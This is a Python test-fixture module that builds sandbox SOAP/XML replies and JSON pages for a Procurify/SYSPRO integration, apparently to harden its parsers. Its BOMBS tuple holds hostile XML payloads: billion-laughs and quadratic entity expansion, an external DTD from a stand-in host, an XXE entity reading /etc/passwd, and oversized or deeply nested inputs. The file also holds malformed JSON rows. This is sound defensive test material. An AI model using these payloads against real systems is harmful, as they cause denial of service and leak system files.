"""What inputs start from: replies as the sandbox writes them, and bombs of X2 and P16. Pure.

The sandbox shares no code with our readers, so that a sample is none of our own making.
"""

import json
from collections.abc import Mapping, Sequence
from datetime import date
from typing import Final, TypeAlias

from engine.sandbox.procurify.order_shapes import order_detail, order_row
from engine.sandbox.procurify.printing import Json, printed
from engine.sandbox.procurify.vendor_shapes import vendor_row
from engine.sandbox.scenario.scenario import build_scenario
from engine.sandbox.syspro.calls import write_faults
from engine.sandbox.syspro.refusals import Fault
from engine.sandbox.syspro.replies import Reply, escaped, plain_document
from engine.sandbox.syspro.soap import ENVELOPE, NAMESPACE

CODE_PAGE: Final = "cp1252"
Content: TypeAlias = "str | Sequence[Part]"
Part: TypeAlias = tuple[str, Content]
SESSION_ENDED: Final = (
    "ERROR: The supplied UserID is invalid. Either you were not logged in; or your session has "
    "expired. You will need to logon again."
)
LINES: Final = (
    SESSION_ENDED,
    "ERROR: Access denied to Functional Area 'PORTOI' for operator 'PROCSYNC'",
    "ERROR: Invalid operator password",
    "ERROR: Operator PROCSYNC is already logged in",
    "ERROR: memory leak in PORTOI",
)
TOKEN: Final = "0123456789ABCDEF0123456789ABCDEF00"
_ENTITIES: Final = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
BOMBS: Final = (
    f"<!DOCTYPE a [<!ENTITY l0 'lol'>{_ENTITIES}]><a>&l9;</a>",
    f"<!DOCTYPE a [<!ENTITY b '{'x' * 50_000}'>]><a>{'&b;' * 10_000}</a>",
    "<!DOCTYPE a SYSTEM 'http://evil.example/a.dtd'><a/>",
    "<!DOCTYPE a [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><a b='&f;'>&f;</a>",
    "<a>" * 50_000,
    "<a>" * 64 + "</a>" * 64,
    "<a>" + "<b/>" * 50_000 + "</a>",
    "<a " + " ".join(f"a{n}=''" for n in range(50_000)) + "/>",
    "<a>" + "x" * 1_048_577 + "</a>",
    "<a>&#65;&#x1F600;&lt;</a>",
)


_ACCEPTED: Final[Mapping[str, tuple[str, Sequence[Part]]]] = {
    "postpurchaseorders": (
        "Order",
        [
            ("Key", [("PurchaseOrder", "000547")]),
            ("OrderActionType", "A"),
            ("Supplier", "0000001"),
        ],
    ),
    "postapinvoice": (
        "Item",
        [
            (
                "Transaction",
                [
                    ("Key", [("TrnYear", "2026"), ("TrnMonth", "11"), ("Journal", "00017")]),
                    ("Supplier", "0000001"),
                    ("Invoice", "INV-7"),
                    ("TransactionCode", "I"),
                ],
            )
        ],
    ),
    "setupapsupplier": ("item", [("key", [("supplier", "0000001")])]),
    "postpurchaseorderreceipts": (
        "Item",
        [
            ("Key", [("JnlYear", "2026"), ("JnlMonth", "11"), ("Journal", "00012")]),
            ("Receipt", [("PurchaseOrder", "000547"), ("Grn", "000000000000013")]),
        ],
    ),
}
_FAULT: Final = Fault(path=("Supplier",), value="9", number=990101, text="Supplier '9' not found")


def post_replies() -> Sequence[bytes]:
    """Replies to the post of an order, an invoice, a supplier, a receipt: accepted and refused."""
    found = []
    for root, (tag, parts) in _ACCEPTED.items():
        accepted = _document(root, [(tag, parts), _counts(root, accepted=1, invalid=0)])
        refused = Reply(root, "PORTOI")
        refused.open(tag)
        write_faults(refused, [_FAULT], "N")
        refused.close(tag)
        _write(refused, *_counts(root, accepted=0, invalid=1))
        found += [accepted, refused.text()]
    return [text.encode(CODE_PAGE) for text in found]


def query_replies() -> Sequence[bytes]:
    """Replies to queries: rows of a table, an order, a ledger code, a supplier, a profile."""
    rows: list[Part] = [
        ("Row", [("Supplier", "0000001"), ("LastPurchDate", "2026-11-30")]),
        ("Row", [("Supplier", "V000118"), ("LastPurchDate", "")]),
    ]
    line = [("Line", "1"), ("MOrderQty", "38,400.000"), ("Unedited_MOrderQty", "38400.000")]
    invoice = [("Invoice", "INV-7"), ("Reference", "P2ABC"), ("InvoiceValue", "12.00")]
    documents = [
        _document("ApSupplier", [*rows, ("RowsReturned", "   2")]),
        _document(
            "PorDetail",
            [
                ("PurchaseOrder", " 000547"),
                (
                    "PurchaseOrderLine",
                    [("StockLine", line), ("CommentLine", [("PurchaseOrderLine", "2")])],
                ),
            ],
        ),
        _document("GLStructureQuery", [("LedgerDetails", [("LedgerCode", "6100")])]),
        _document(
            "ApQuery",
            [("Supplier", [("RegisteredInvoices", [("RegisteredInvoiceDetail", invoice)])])],
        ),
        plain_document("UserInfo", [("OperatorCode", "PROCSYNC"), ("CompanyName", "A & B")]),
    ]
    return [text.encode(CODE_PAGE) for text in documents]


def wrapped(texts: Sequence[bytes]) -> Sequence[bytes]:
    """Each text as the REST service may pack it: raw, as a JSON string, in a string element."""
    found = []
    for raw in texts:
        text = raw.decode(CODE_PAGE)
        element = f"<string xmlns='http://schemas.microsoft.com/'>{escaped(text)}</string>"
        found += [raw, json.dumps(text).encode(), element.encode()]
    return found


def enveloped(operation: str, text: str) -> bytes:
    """The text as the result of a SOAP operation, as the sandbox sends it."""
    return (
        f'<s:Envelope xmlns:s="{ENVELOPE}"><s:Body><{operation}Response xmlns="{NAMESPACE}">'
        f"<{operation}Result>{escaped(text)}</{operation}Result></{operation}Response></s:Body>"
        "</s:Envelope>"
    ).encode()


def pages() -> Sequence[bytes]:
    """List replies of Procurify in both envelopes, details, and pages with a poisoned row."""
    scenario = build_scenario(seed=1, documents=6, anchor=date(2026, 11, 2), po_numbering="auto")
    vendors = [vendor_row(vendor) for vendor in scenario.vendors[:2]]
    orders = [order_row(order) for order in scenario.orders[:2]]
    turn: dict[str, Json] = {
        "count": 2,
        "next": "https://acme.procurify.com/api/v3/vendors/?page=2",
        "previous": None,
        "page_size": 2,
    }
    whole = [
        printed({"metadata": {"pagination": turn}, "data": vendors}),
        printed({"metadata": {}, "pagination": turn, "data": orders}),
        printed({"metadata": {}, "data": order_detail(scenario.orders[0])}),
    ]
    small = b'{"metadata":{"pagination":{"count":2,"next":null,"page_size":10}},"data":[%s]}'
    rows = (
        b'{"id":1,"name":"A","total":"10.00000"},{"id":2,"total":80.25}',
        b'{"id":1,"name":"\\ud800"},{"id":2,"name":"a\\u0000b"}',
        b'{"id":1,"id":2},{"id":3,"total":NaN},{"id":4,"total":1e999}',
        b'{"uuid":"3f2504e0-4f89-11d3-9a0c-0305e82c3301","version":%s}' % (b"9" * 500),
        b'{"id":1,"name":"\xff"}',
        b"[[[[]]]],7,null",
        b"[" * 3000 + b"]" * 3000,
    )
    return [*whole, *(small % row for row in rows)]


def _document(root: str, parts: Sequence[Part]) -> str:
    reply = Reply(root, root.upper())
    for name, content in parts:
        _write(reply, name, content)
    return reply.text()


def _write(reply: Reply, name: str, content: Content) -> None:
    if isinstance(content, str):
        reply.leaf(name, content)
        return
    reply.open(name)
    for child, inner in content:
        _write(reply, child, inner)
    reply.close(name)


def _counts(root: str, *, accepted: int, invalid: int) -> Part:
    names = ("RecordsRead", "RecordsInvalid") if root[0] == "s" else _ITEMS
    return "StatusOfItems", [(names[0], f"{accepted:06}"), (names[1], f"{invalid:06}")]


_ITEMS: Final = ("ItemsProcessed", "ItemsInvalid")
